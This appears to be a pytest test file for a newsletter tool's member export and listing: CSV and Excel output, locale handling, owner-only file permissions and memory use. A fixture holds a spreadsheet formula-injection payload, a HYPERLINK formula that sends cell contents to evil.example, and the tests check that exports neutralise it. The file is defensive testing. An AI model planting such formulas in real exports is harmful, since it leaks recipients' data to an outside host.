"""`members export` and `members list` for people: Excel files, formulas, privacy, names
(issues 13.17, 14.8, 14.9)."""

from __future__ import annotations

import csv
import io
import os
import stat
import sys
import tracemalloc
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from newsletter import store
from newsletter.members.export import neutralise
from newsletter.workspace import Workspace

from .conftest import CliRun

COLUMNS = [
    "email", "first_name", "last_name", "name", "list", "status", "basis", "subscribed_at",
    "consent_method", "consent_source", "consent_text_version", "consent_requested_at",
    "consent_confirmed_at", "consent_ip", "consent_text",
]  # fmt: skip
HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1;"Klick")'
POSIX = pytest.mark.skipif(sys.platform == "win32", reason="file modes are POSIX")


def set_locale(workspace: Workspace, locale: str) -> None:
    text = workspace.settings_file.read_text(encoding="utf-8")
    lines = [line for line in text.splitlines() if not line.startswith("locale")]
    index = next(i for i, line in enumerate(lines) if line.strip() == "[newsletter]")
    lines.insert(index + 1, f'locale = "{locale}"')
    workspace.settings_file.write_text("\n".join(lines) + "\n", encoding="utf-8")


@pytest.fixture
def members(cli: CliRun) -> None:
    cli("members", "add", "erika@example.org", "--first-name", "Erika", "--last-name", "Müller")
    cli("members", "add", "+x@example.org", "--name", HOSTILE)
    cli("members", "add", "hans@example.org", "--first-name", "@Hans", "--last-name", "-1+1")


@pytest.fixture
def umask() -> Iterator[None]:
    """The usual umask, under which files come out rw-r--r-- unless made private."""
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def test_neutralise_cells_excel_would_run() -> None:
    assert [neutralise(cell) for cell in ["=1+1", "+49 30", "-2", "@SUM(A1)", "\tx", "\rx"]] == [
        "'=1+1", "'+49 30", "'-2", "'@SUM(A1)", "'\tx", "'\rx",
    ]  # fmt: skip
    assert [neutralise(cell) for cell in ["Erika", "", "a=b", "2026-11-02"]] == [
        "Erika", "", "a=b", "2026-11-02",
    ]  # fmt: skip


@pytest.mark.usefixtures("members")
def test_csv_for_german_excel_has_semicolons_a_bom_and_no_formulas(
    cli: CliRun, workspace: Workspace, tmp_path: Path
) -> None:
    set_locale(workspace, "de")
    target = tmp_path / "mitglieder.csv"
    result = cli("members", "export", "-o", str(target))
    assert result.exit_code == 0, result.output
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == COLUMNS
    by_email = {row[0]: row for row in rows[1:]}
    assert by_email["'+x@example.org"][3] == "'" + HOSTILE
    assert by_email["hans@example.org"][1:3] == ["'@Hans", "'-1+1"]
    assert by_email["erika@example.org"][1:3] == ["Erika", "Müller"]
    assert {row[5] for row in rows[1:]} == {"subscribed"}


@pytest.mark.usefixtures("members")
def test_csv_for_english_locale_and_stdout_keep_commas(
    cli: CliRun, workspace: Workspace, tmp_path: Path
) -> None:
    set_locale(workspace, "de")
    piped = cli("members", "export")
    assert piped.stdout.startswith(",".join(COLUMNS) + "\n")
    assert "'=HYPERLINK" in piped.stdout
    set_locale(workspace, "en")
    target = tmp_path / "members.csv"
    cli("members", "export", "-o", str(target))
    assert target.read_text(encoding="utf-8-sig").startswith(",".join(COLUMNS) + "\n")


@pytest.mark.usefixtures("members")
def test_xlsx_export_is_a_workbook_of_text_cells(cli: CliRun, tmp_path: Path) -> None:
    target = tmp_path / "mitglieder.xlsx"
    result = cli("members", "export", "-o", str(target))
    assert result.exit_code == 0, result.output
    assert result.stderr == f"Wrote 3 rows to {target}\n"
    sheet = openpyxl.load_workbook(target).worksheets[0]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == COLUMNS
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert kinds == {"s"}
    by_email = {row[0]: row for row in rows[1:]}
    # Text cells are never run, so they keep what the member gave, unchanged.
    assert by_email["+x@example.org"][3] == HOSTILE
    assert by_email["erika@example.org"][1:6] == [
        "Erika",
        "Müller",
        None,
        "mitglieder",
        "subscribed",
    ]
    with zipfile.ZipFile(target) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


@POSIX
@pytest.mark.usefixtures("members", "umask")
@pytest.mark.parametrize("name", ["mitglieder.csv", "mitglieder.xlsx"])
def test_exports_are_private_to_their_owner(cli: CliRun, tmp_path: Path, name: str) -> None:
    target = tmp_path / name
    cli("members", "export", "-o", str(target))
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


@POSIX
@pytest.mark.usefixtures("umask")
def test_the_database_and_its_wal_files_are_private(tmp_path: Path) -> None:
    path = tmp_path / "newsletter.db"
    with store.open_database(path) as db:
        store.create_list(db, "mitglieder", datetime.now(UTC))
        files = [path, Path(f"{path}-wal"), Path(f"{path}-shm")]
        assert all(file.exists() for file in files)
        assert [oct(stat.S_IMODE(file.stat().st_mode)) for file in files] == [oct(0o600)] * 3


def test_list_shows_names_on_a_narrow_console(cli: CliRun) -> None:
    cli(
        "members", "add", "erika.mustermann-langname@verwaltung.example.org",
        "--first-name", "Erika", "--last-name", "Mustermann",
    )  # fmt: skip
    cli("members", "add", "hp@example.org", "--name", "Hans-Peter Müller-Lüdenscheidt")
    listing = cli("members", "list", env={"COLUMNS": "80"})
    assert listing.exit_code == 0, listing.output
    lines = listing.stdout.splitlines()
    assert any("erika.mustermann-langname@verwaltung.example.org" in line for line in lines)
    assert any("Erika Mustermann" in line for line in lines)
    assert any("Hans-Peter Müller-Lüdenscheidt" in line for line in lines)
    assert lines[-1] == "2 shown: 2 subscribed, 0 unsubscribed, 0 bounced."


def import_members(cli: CliRun, tmp_path: Path, start: int, end: int) -> None:
    path = tmp_path / f"m{start}.csv"
    rows = "".join(f"m{i}@example.org;Vor{i};Nach{i}\n" for i in range(start, end))
    path.write_text("E-Mail;Vorname;Nachname\n" + rows, encoding="utf-8")
    assert cli("members", "import", str(path)).exit_code == 0


def peak_of_list(cli: CliRun) -> tuple[int, str]:
    tracemalloc.start()
    try:
        result = cli("members", "list")
        return tracemalloc.get_traced_memory()[1], result.stdout
    finally:
        tracemalloc.stop()


def test_list_memory_does_not_grow_with_the_list(cli: CliRun, tmp_path: Path) -> None:
    import_members(cli, tmp_path, 0, 500)
    small, _ = peak_of_list(cli)
    import_members(cli, tmp_path, 500, 5000)
    large, shown = peak_of_list(cli)
    assert shown.rstrip().endswith("5000 shown: 5000 subscribed, 0 unsubscribed, 0 bounced.")
    assert "Vor4999 Nach4999" in shown
    # The output itself piles up in the CliRunner's buffer (bytes, then text); the table
    # must not (it took 8 times the output's size when it was built whole).
    assert large - small < 6 * len(shown.encode())


@pytest.mark.skipif(os.name == "nt", reason="POSIX modes")
def test_an_older_database_readable_by_others_is_made_private(tmp_path: Path) -> None:
    path = tmp_path / "newsletter.db"
    with store.open_database(path) as db:
        store.create_list(db, "mitglieder", datetime.now(UTC))
    files = [path, Path(f"{path}-wal"), Path(f"{path}-shm")]
    for file in files:
        file.touch()
        file.chmod(0o644)  # what versions before 0.1 left, following the umask
    with store.open_database(path):
        assert [oct(stat.S_IMODE(file.stat().st_mode)) for file in files] == [oct(0o600)] * 3
